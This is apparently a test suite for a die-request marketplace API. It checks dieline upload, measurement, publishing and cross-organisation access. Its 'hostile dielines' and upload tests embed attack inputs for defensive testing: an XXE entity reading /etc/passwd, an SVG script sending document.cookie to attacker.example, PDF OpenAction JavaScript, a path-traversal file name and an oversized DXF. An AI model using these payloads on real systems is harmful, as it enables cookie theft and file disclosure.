import { createHash } from 'node:crypto';
import request from 'supertest';
import { describe, expect, it } from 'vitest';
import { AuditEntry, DielineFile } from '../models';
import { app, createPress, createWorld, type World } from '../test/harness';
import { pngBytes, rectangleDxf, rectangleSvg } from '../test/fixtures';
import { pdfFile, PT, separation } from '@kerfmark/dieline/testing';

const bearer = (token: string) => ({ Authorization: `Bearer ${token}` });
const inDays = (days: number) => new Date(Date.now() + days * 86_400_000);
const date = (d: Date) => d.toISOString().slice(0, 10);

function draftBody(overrides: Record<string, unknown> = {}) {
  return {
    title: 'Tuck-end carton, 4 up',
    jobReference: 'J-2291',
    quantity: 1,
    ups: 4,
    stockName: '18 pt SBS',
    caliperIn: 0.018,
    ruleTypes: ['cut', 'crease'],
    needByDate: date(inDays(30)),
    bidDeadline: inDays(7).toISOString(),
    deliveryPostcode: '60614',
    ...overrides,
  };
}

async function createDraft(w: World, overrides: Record<string, unknown> = {}) {
  const res = await request(app).post('/api/requests').set(bearer(w.tokens.buyer)).send(draftBody(overrides));
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body as { id: number };
}

async function upload(w: World, requestId: number, name: string, body: Buffer | string) {
  return request(app)
    .post(`/api/requests/${requestId}/files`)
    .set(bearer(w.tokens.buyer))
    .attach('file', Buffer.from(body), name);
}

/** The worker (started by `npm test`) measures the file; wait for it. */
async function analysed(w: World, fileId: number) {
  for (let i = 0; i < 100; i++) {
    const res = await request(app).get(`/api/files/${fileId}`).set(bearer(w.tokens.buyer));
    if (res.body.analysisStatus === 'done' || res.body.analysisStatus === 'failed') return res.body;
    await new Promise((r) => setTimeout(r, 150));
  }
  throw new Error('the dieline was not analysed in time');
}

describe('die requests', () => {
  it('creates a draft, measures its DXF in the worker, and publishes it to die shops', async () => {
    const w = await createWorld();
    const press = await createPress(w.printer);
    const draft = await createDraft(w, { pressId: press.id, runSheets: 10_000 });

    const dxf = await upload(w, draft.id, 'carton.dxf', rectangleDxf);
    expect(dxf.status, JSON.stringify(dxf.body)).toBe(201);
    expect(dxf.body).toMatchObject({ format: 'dxf', isPrimary: true, analysisStatus: 'pending' });
    expect(dxf.body.sha256).toBe(createHash('sha256').update(rectangleDxf).digest('hex'));
    const file = await analysed(w, dxf.body.id);
    expect(file.analysisStatus).toBe('done');
    // 4 × 3 in rectangle: 2 × (4 + 3) = 14 in of cutting rule; the crease across is 4 in.
    expect(file.metrics.length.cut).toBeCloseTo(14, 6);
    expect(file.metrics.length.crease).toBeCloseTo(4, 6);
    expect(file.metrics.lengthMm.cut).toBeCloseTo(14 * 25.4, 4); // 1 in = 25.4 mm (ISO 80000)

    const detail = await request(app).get(`/api/requests/${draft.id}`).set(bearer(w.tokens.buyer));
    expect(detail.body.metrics.length.total).toBeCloseTo(18, 6);
    // Board 4 × 3 plus 1 in each side = 6 × 5 in: fits a 22 × 30 in press.
    expect(detail.body.boardFitsPress).toBe(true);
    // Common practice: 10,000 sheets at the press's typical 4,000 an hour = 2.5 hours.
    expect(detail.body.needBy.runHours).toBeCloseTo(2.5, 10);
    expect(detail.body.allowedActions.sort()).toEqual(['answer', 'cancel', 'edit', 'publish', 'remove-file']);

    // A die shop cannot see a draft.
    expect((await request(app).get(`/api/requests/${draft.id}`).set(bearer(w.tokens.estimator))).status).toBe(404);

    const published = await request(app).post(`/api/requests/${draft.id}/publish`).set(bearer(w.tokens.buyer));
    expect(published.status, JSON.stringify(published.body)).toBe(200);
    expect(published.body.status).toBe('open');
    const open = await request(app)
      .get('/api/open-requests')
      .query({ q: w.printer.name })
      .set(bearer(w.tokens.estimator));
    expect(open.body.items.map((r: { id: number }) => r.id)).toContain(draft.id);
    const seen = await request(app).get(`/api/requests/${draft.id}`).set(bearer(w.tokens.estimator));
    expect(seen.status).toBe(200);
    expect(seen.body.isOwner).toBe(false);
    expect(seen.body.deliveryAddress).toBeNull();

    const audit = await AuditEntry.query().where({ entity: 'die_request', entityId: draft.id }).orderBy('id');
    expect(audit.map((a) => a.action)).toEqual(['created', 'status:draft->open']);
  });

  it('measures an SVG in user units at 96 per inch', async () => {
    const w = await createWorld();
    const draft = await createDraft(w);
    const res = await upload(w, draft.id, 'label.svg', rectangleSvg);
    expect(res.status).toBe(201);
    const file = await analysed(w, res.body.id);
    // 192 × 96 user units = 2 × 1 in (CSS Values and Units: 96 px per inch); perimeter 6 in.
    expect(file.metrics.length.cut).toBeCloseTo(6, 6);
    const preview = await request(app).get(`/api/files/${res.body.id}/preview`).set(bearer(w.tokens.buyer));
    expect(preview.body.preview.width).toBeCloseTo(2, 6);
    expect(preview.body.preview.paths[0].ruleType).toBe('cut');
  });

  it('refuses to publish an incomplete draft, naming what is missing', async () => {
    const w = await createWorld();
    const draft = await createDraft(w, { needByDate: null, bidDeadline: null, stockName: null });
    const res = await request(app).post(`/api/requests/${draft.id}/publish`).set(bearer(w.tokens.buyer));
    expect(res.status).toBe(400);
    expect(Object.keys(res.body.error.fields).sort()).toEqual(['bidDeadline', 'needByDate', 'stockName']);

    const complete = await createDraft(w);
    const noFile = await request(app).post(`/api/requests/${complete.id}/publish`).set(bearer(w.tokens.buyer));
    expect(noFile.status).toBe(409);
    expect(noFile.body.error.code).toBe('dieline_missing');
  });

  it('validates dates and references', async () => {
    const w = await createWorld();
    const other = await createWorld();
    const foreignPress = await createPress(other.printer);
    const bad = await request(app)
      .post('/api/requests')
      .set(bearer(w.tokens.buyer))
      .send(draftBody({ needByDate: '2026-02-30', ups: 0, ruleTypes: [] }));
    expect(bad.status).toBe(400);
    expect(Object.keys(bad.body.error.fields).sort()).toEqual(['needByDate', 'ruleTypes', 'ups']);
    const press = await request(app)
      .post('/api/requests')
      .set(bearer(w.tokens.buyer))
      .send(draftBody({ pressId: foreignPress.id }));
    expect(press.status).toBe(400);
    expect(press.body.error.fields.pressId).toBeTruthy();
  });

  it('shows an invited-only request to the invited shops alone', async () => {
    const w = await createWorld();
    const outsider = await createWorld();
    const draft = await createDraft(w, { visibility: 'invited', invitedShopIds: [w.shop.id] });
    const file = await upload(w, draft.id, 'c.dxf', rectangleDxf);
    await analysed(w, file.body.id);
    expect((await request(app).post(`/api/requests/${draft.id}/publish`).set(bearer(w.tokens.buyer))).status).toBe(200);
    expect((await request(app).get(`/api/requests/${draft.id}`).set(bearer(w.tokens.estimator))).status).toBe(200);
    expect((await request(app).get(`/api/requests/${draft.id}`).set(bearer(outsider.tokens.estimator))).status).toBe(
      404,
    );
    const open = await request(app)
      .get('/api/open-requests')
      .query({ q: w.printer.name })
      .set(bearer(outsider.tokens.estimator));
    expect(open.status).toBe(200);
    expect(open.body.items.map((r: { id: number }) => r.id)).not.toContain(draft.id);
  });
});

describe('dieline uploads', () => {
  it('checks the type by content, not by extension', async () => {
    const w = await createWorld();
    const draft = await createDraft(w);
    const png = await upload(w, draft.id, 'photo.dxf', pngBytes);
    expect(png.status).toBe(415);
    expect(png.body.error.message).toMatch(/PNG/);
    const text = await upload(w, draft.id, 'notes.svg', 'just some words');
    expect(text.status).toBe(415);
    expect(await DielineFile.query().where({ requestId: draft.id })).toHaveLength(0);
  });

  it('refuses a file over the limit with a clear 413, an empty file, and a missing file', async () => {
    const w = await createWorld();
    const draft = await createDraft(w);
    const huge = await upload(w, draft.id, 'huge.dxf', Buffer.alloc(26 * 1024 * 1024, 0x30));
    expect(huge.status).toBe(413);
    expect(huge.body.error.message).toMatch(/larger than 25 MB/);
    const empty = await upload(w, draft.id, 'empty.dxf', Buffer.alloc(0));
    expect(empty.status).toBe(400);
    const none = await request(app)
      .post(`/api/requests/${draft.id}/files`)
      .set(bearer(w.tokens.buyer))
      .field('note', 'x');
    expect(none.status).toBe(400);
    expect(none.body.error.fields.file).toBeTruthy();
  });

  it('keeps a file that cannot be measured, with the reason', async () => {
    const w = await createWorld();
    const draft = await createDraft(w);
    const truncated = rectangleDxf.slice(0, rectangleDxf.indexOf('LINE') + 10);
    const res = await upload(w, draft.id, 'truncated.dxf', truncated);
    expect(res.status).toBe(201);
    const file = await analysed(w, res.body.id);
    expect(file.analysisStatus).toBe('failed');
    expect(file.analysisError).toBeTruthy();
    const link = await request(app).get(`/api/files/${res.body.id}/download`).set(bearer(w.tokens.buyer));
    expect(link.status).toBe(200);
  });

  // OWASP XXE Prevention: the entity is never expanded, and the refusal settles the file.
  it('settles an SVG with a DOCTYPE and external entities as failed, with the reason', async () => {
    const w = await createWorld();
    const draft = await createDraft(w);
    const xxe = rectangleSvg
      .replace('<svg', '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<svg')
      .replace('</svg>', '<text>&xxe;</text></svg>');
    const res = await upload(w, draft.id, 'entities.svg', xxe);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const file = await analysed(w, res.body.id);
    expect(file.analysisStatus).toBe('failed');
    expect(file.analysisError).toMatch(/could not be read.*DOCTYPE/);
    expect(JSON.stringify(file)).not.toContain('root:');
  });

  it('stores a safe file name and downloads the same bytes through a short-lived link', async () => {
    const w = await createWorld();
    const draft = await createDraft(w);
    const res = await upload(w, draft.id, '../../etc/carton.dxf', rectangleDxf);
    expect(res.body.fileName).toBe('carton.dxf');
    const link = await request(app).get(`/api/files/${res.body.id}/download`).set(bearer(w.tokens.buyer));
    const bytes = Buffer.from(await (await fetch(link.body.url)).arrayBuffer());
    expect(createHash('sha256').update(bytes).digest('hex')).toBe(res.body.sha256);
  });

  it('gives another organisation 404 on the request, its files and their links', async () => {
    const w = await createWorld();
    const other = await createWorld();
    const draft = await createDraft(w);
    const file = await upload(w, draft.id, 'c.dxf', rectangleDxf);
    for (const path of [
      `/api/requests/${draft.id}`,
      `/api/files/${file.body.id}`,
      `/api/files/${file.body.id}/download`,
      `/api/files/${file.body.id}/preview`,
    ]) {
      for (const token of [other.tokens.buyer, other.tokens.estimator]) {
        const res = await request(app).get(path).set(bearer(token));
        expect(res.status, path).toBe(404);
        expect(JSON.stringify(res.body)).not.toContain('carton');
      }
    }
    const patch = await request(app)
      .patch(`/api/requests/${draft.id}`)
      .set(bearer(other.tokens.buyer))
      .send({ title: 'mine now' });
    expect(patch.status).toBe(404);
    const put = await upload(other, draft.id, 'x.dxf', rectangleDxf);
    expect(put.status).toBe(404);
  });
});

describe('questions', () => {
  it('shares answers with every shop but keeps an open question to its asker', async () => {
    const w = await createWorld();
    const second = await createWorld();
    const draft = await createDraft(w);
    const file = await upload(w, draft.id, 'c.dxf', rectangleDxf);
    await analysed(w, file.body.id);
    await request(app).post(`/api/requests/${draft.id}/publish`).set(bearer(w.tokens.buyer));

    const asked = await request(app)
      .post(`/api/requests/${draft.id}/questions`)
      .set(bearer(w.tokens.estimator))
      .send({ question: 'Are the nicks marked?' });
    expect(asked.status).toBe(201);
    const otherShopBefore = await request(app).get(`/api/requests/${draft.id}`).set(bearer(second.tokens.estimator));
    expect(otherShopBefore.body.questions).toHaveLength(0);

    await request(app)
      .post(`/api/requests/${draft.id}/questions/${asked.body.id}/answer`)
      .set(bearer(w.tokens.buyer))
      .send({ answer: 'Yes, on layer NICKS.' });
    const otherShopAfter = await request(app).get(`/api/requests/${draft.id}`).set(bearer(second.tokens.estimator));
    expect(otherShopAfter.body.questions).toEqual([
      expect.objectContaining({ question: 'Are the nicks marked?', answer: 'Yes, on layer NICKS.', askedByYou: false }),
    ]);
  });
});

describe('hostile dielines', () => {
  it('measures an SVG with a script and external references without ever passing them on', async () => {
    const w = await createWorld();
    const draft = await createDraft(w);
    const evil = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="192" height="96" viewBox="0 0 192 96" onload="alert(1)">
  <script>fetch('http://attacker.example/steal?c=' + document.cookie)</script>
  <image xlink:href="http://attacker.example/pixel.png" width="1" height="1"/>
  <g id="cut" onclick="alert(2)"><rect x="0" y="0" width="192" height="96" fill="none" stroke="black"/></g>
</svg>`;
    const res = await upload(w, draft.id, 'evil.svg', evil);
    expect(res.status).toBe(201);
    const file = await analysed(w, res.body.id);
    expect(file.metrics.length.cut).toBeCloseTo(6, 6);
    const preview = await request(app).get(`/api/files/${res.body.id}/preview`).set(bearer(w.tokens.buyer));
    const text = JSON.stringify(preview.body);
    expect(text).not.toMatch(/script|alert|attacker|onload|onclick|href/i);
    // Only path data reaches the browser: commands, numbers and separators.
    for (const path of preview.body.preview.paths) expect(path.d).toMatch(/^[MLAHVCSQTZmlahvcsqtz0-9 .,eE+-]+$/);
    // The original is only ever downloaded as an attachment, never shown inline.
    const link = await request(app).get(`/api/files/${res.body.id}/download`).set(bearer(w.tokens.buyer));
    const head = await fetch(link.body.url);
    expect(head.headers.get('content-disposition')).toMatch(/^attachment/);
  });

  it('measures a PDF with JavaScript and an open action without running or passing them on', async () => {
    const w = await createWorld();
    const draft = await createDraft(w);
    const evil = pdfFile(
      [{ content: `/C0 CS 1 SCN 0 0 ${2 * PT} ${PT} re S`, resources: '<< /ColorSpace << /C0 {{cut}} >> >>' }],
      {
        objects: {
          cut: separation('Cut'),
          js: '<< /S /JavaScript /JS (app.launchURL\\("http://attacker.example/"\\)) >>',
        },
        catalog: '/OpenAction {{js}} /AA << /WC {{js}} >>',
      },
    );
    const res = await upload(w, draft.id, 'evil.pdf', Buffer.from(evil));
    expect(res.status).toBe(201);
    const file = await analysed(w, res.body.id);
    expect(file.metrics.length.cut).toBeCloseTo(6, 6); // a 2 × 1 in rectangle
    const preview = await request(app).get(`/api/files/${res.body.id}/preview`).set(bearer(w.tokens.buyer));
    expect(JSON.stringify(preview.body)).not.toMatch(/JavaScript|launchURL|attacker/);
    expect(JSON.stringify(file)).not.toMatch(/JavaScript|launchURL|attacker/);
    const link = await request(app).get(`/api/files/${res.body.id}/download`).set(bearer(w.tokens.buyer));
    expect((await fetch(link.body.url)).headers.get('content-disposition')).toMatch(/^attachment/);
  });

  it('keeps a scanned PDF with the reason it cannot be measured', async () => {
    const w = await createWorld();
    const draft = await createDraft(w);
    const scan = pdfFile([{ content: 'q 612 0 0 792 0 0 cm /I Do Q', resources: '<< /XObject << /I {{img}} >> >>' }], {
      objects: {
        img: {
          dict: '<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 >>',
          stream: '\x80',
        },
      },
    });
    const res = await upload(w, draft.id, 'scan.pdf', Buffer.from(scan));
    expect(res.status).toBe(201);
    const file = await analysed(w, res.body.id);
    expect(file.analysisStatus).toBe('failed');
    expect(file.analysisError).toMatch(/only an image \(a scan or a flattened export\)/);
  });

  it('refuses a DXF with more entities than the limit, with a clear reason and the upload kept', async () => {
    const w = await createWorld();
    const draft = await createDraft(w);
    const lines: string[] = ['0', 'SECTION', '2', 'ENTITIES'];
    // 250,000 tiny lines: past the 200,000-entity limit of the analysis.
    for (let i = 0; i < 250_000; i++)
      lines.push(
        '0',
        'LINE',
        '8',
        'CUT',
        '10',
        String(i * 0.001),
        '20',
        '0',
        '11',
        String(i * 0.001 + 0.0005),
        '21',
        '0',
      );
    lines.push('0', 'ENDSEC', '0', 'EOF', '');
    const res = await upload(w, draft.id, 'dust.dxf', lines.join('\n'));
    expect(res.status).toBe(201);
    const file = await analysed(w, res.body.id);
    expect(file.analysisStatus).toBe('failed');
    expect(file.analysisError).toMatch(/entities|too many/i);
  });
});

describe('PDF and one-up dielines', () => {
  // A two-page PDF written here: page 1 holds only a title; page 2 a 4 × 3 in rectangle on the
  // "Cut" separation (14 in) with a 4 in line across it on "Crease" (72 pt = 1 in).
  const twoPagePdf = Buffer.from(
    pdfFile(
      [
        { content: 'BT /F1 12 Tf 72 700 Td (Carton, 1 up) Tj ET' },
        {
          content: `/C0 CS 1 SCN 0 0 ${4 * PT} ${3 * PT} re S /C1 CS 1 SCN 0 ${1.5 * PT} m ${4 * PT} ${1.5 * PT} l S`,
          resources: '<< /ColorSpace << /C0 {{cut}} /C1 {{crease}} >> >>',
        },
      ],
      { objects: { cut: separation('Cut'), crease: separation('Crease') } },
    ),
  );

  it('accepts a PDF by its content, measures its first page with rules, and measures the page chosen', async () => {
    const w = await createWorld();
    const draft = await createDraft(w);
    const res = await upload(w, draft.id, 'carton-export', twoPagePdf);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ format: 'pdf', pdfPage: null });
    const file = await analysed(w, res.body.id);
    expect(file.metrics).toMatchObject({ length: { cut: 14, crease: 4 }, page: { number: 2, count: 2 } });

    const pick = (page: unknown, token = w.tokens.buyer) =>
      request(app).put(`/api/files/${res.body.id}/page`).set(bearer(token)).send({ page });
    expect((await pick(3)).status).toBe(400); // the PDF has two pages
    expect((await pick('two')).status).toBe(400);
    const first = await pick(1);
    expect(first.status).toBe(200);
    const failed = await analysed(w, res.body.id);
    expect(failed).toMatchObject({ analysisStatus: 'failed', pdfPage: 1 });
    expect(failed.analysisError).toMatch(/^Page 1 of the PDF has no vector lines/);
    expect((await pick(null)).status).toBe(200);
    expect((await analysed(w, res.body.id)).metrics.page).toEqual({ number: 2, count: 2 });

    const other = await createWorld();
    expect((await pick(2, other.tokens.buyer)).status).toBe(404);
    const dxf = await upload(w, draft.id, 'c.dxf', rectangleDxf);
    const notPdf = await request(app)
      .put(`/api/files/${dxf.body.id}/page`)
      .set(bearer(w.tokens.buyer))
      .send({ page: 1 });
    expect(notPdf.status).toBe(400);
  });

  it('lays a one-up dieline out into the whole die, and measures it again when the layout changes', async () => {
    const w = await createWorld();
    expect(
      (
        await request(app)
          .post('/api/requests')
          .set(bearer(w.tokens.buyer))
          .send(draftBody({ dielineShows: 'one-up', upsAcross: 3 }))
      ).status,
    ).toBe(400);
    const draft = await createDraft(w, { dielineShows: 'one-up', upsAcross: 3, upsAlong: 4, gutterIn: 0, ups: 1 });
    const detail = await request(app).get(`/api/requests/${draft.id}`).set(bearer(w.tokens.buyer));
    expect(detail.body).toMatchObject({ dielineShows: 'one-up', upsAcross: 3, upsAlong: 4, gutterIn: 0, ups: 12 });

    const res = await upload(w, draft.id, 'one-up.pdf', twoPagePdf);
    const file = await analysed(w, res.body.id);
    // 3 × 4 ups of 4 × 3 in at a zero gutter: a 12 × 12 in grid, 5 rows and 4 columns of 12 in
    // cutting rule (shared cuts once), and 12 creases of 4 in.
    expect(file.metrics.length.cut).toBeCloseTo(108, 6);
    expect(file.metrics.length.crease).toBeCloseTo(48, 6);
    expect(file.metrics.layout).toMatchObject({ across: 3, along: 4, rotated: false, oneUpLength: { cut: 14 } });

    const edit = await request(app)
      .patch(`/api/requests/${draft.id}`)
      .set(bearer(w.tokens.buyer))
      .send({ gutterIn: 0.25 });
    expect(edit.status, JSON.stringify(edit.body)).toBe(200);
    const again = await analysed(w, res.body.id);
    expect(again.metrics.length.cut).toBeCloseTo(12 * 14, 6);
  });
});
